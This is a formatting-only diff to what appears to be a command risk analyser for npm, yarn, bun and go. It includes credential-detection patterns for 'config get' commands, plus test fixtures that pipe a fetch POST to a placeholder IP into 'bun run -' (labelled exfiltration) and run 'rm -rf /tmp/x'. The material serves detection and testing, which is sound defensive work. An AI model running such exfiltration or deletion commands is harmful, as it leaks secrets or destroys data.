@@ -681,7 +681,8 @@ const NPM_SUBCOMMANDS: Record<string, CommandSpec> = {
         custom(call) {
           npmConfig(call, [], false);
           for (const key of call.operands)
-            if (!key.known || /auth|token|passw|secret/i.test(key.text)) call.ctx.unknown(`\`npm config get ${key.text}\` prints a credential`);
+            if (!key.known || /auth|token|passw|secret/i.test(key.text))
+              call.ctx.unknown(`\`npm config get ${key.text}\` prints a credential`);
         },
       }),
     },
@@ -1139,8 +1140,14 @@ const YARN_SUBCOMMANDS: Record<string, CommandSpec> = {
       const { ctx } = call;
       const [action, key] = call.operands;
       // `yarn config get npmAuthToken` prints a credential
-      if (action?.text === 'get' && key !== undefined && (!key.known || /auth|token|passw|secret|_password/i.test(key.text)))
-        ctx.read(`${ctx.home}/.yarnrc.yml`), ctx.unknown(`\`yarn config get ${key.text}\` prints a credential`);
+      if (
+        action?.text === 'get' &&
+        key !== undefined &&
+        (!key.known || /auth|token|passw|secret|_password/i.test(key.text))
+      ) {
+        ctx.read(`${ctx.home}/.yarnrc.yml`);
+        ctx.unknown(`\`yarn config get ${key.text}\` prints a credential`);
+      }
       if (!['set', 'unset', 'delete'].includes(action?.text ?? '')) return;
       const berry = key !== undefined && /[A-Z]/.test(key.text);
       ctx.write(
@@ -1685,7 +1692,10 @@ const JAVASCRIPT: ProgramSpec[] = [
         executes: ['inline:javascript'],
       },
       { cmd: 'bun run rm -rf /tmp/x', runs: ['rm'] },
-      { cmd: "echo 'await fetch(\"http://203.0.113.7/\", { method: \"POST\", body: \"x\" })' | bun run -", risks: ['exfiltration'] },
+      {
+        cmd: 'echo \'await fetch("http://203.0.113.7/", { method: "POST", body: "x" })\' | bun run -',
+        risks: ['exfiltration'],
+      },
       { cmd: 'bun x cowsay hi', risks: ['remote-code'] },
       { cmd: 'bun exec "rm -rf /tmp/x"', runs: ['rm'] },
       { cmd: 'bun add -g serve', writes: ['~/.bun/bin/*'] },
@@ -3694,7 +3704,9 @@ const GO_SUBCOMMANDS: Record<string, CommandSpec> = {
       // Go source files only, in the packages named
       if (call.operands.length === 0 || call.operands.some((o) => o.text.endsWith('...')))
         call.ctx.write(`${call.ctx.path('.')}/**/*.go`);
-      else for (const o of call.operands) call.ctx.write(`${o.known ? call.ctx.path(o.text.replace(/\/\.\.\.$/, '')) : '?'}/**/*.go`);
+      else
+        for (const o of call.operands)
+          call.ctx.write(`${o.known ? call.ctx.path(o.text.replace(/\/\.\.\.$/, '')) : '?'}/**/*.go`);
     },
   }),
   telemetry: S({
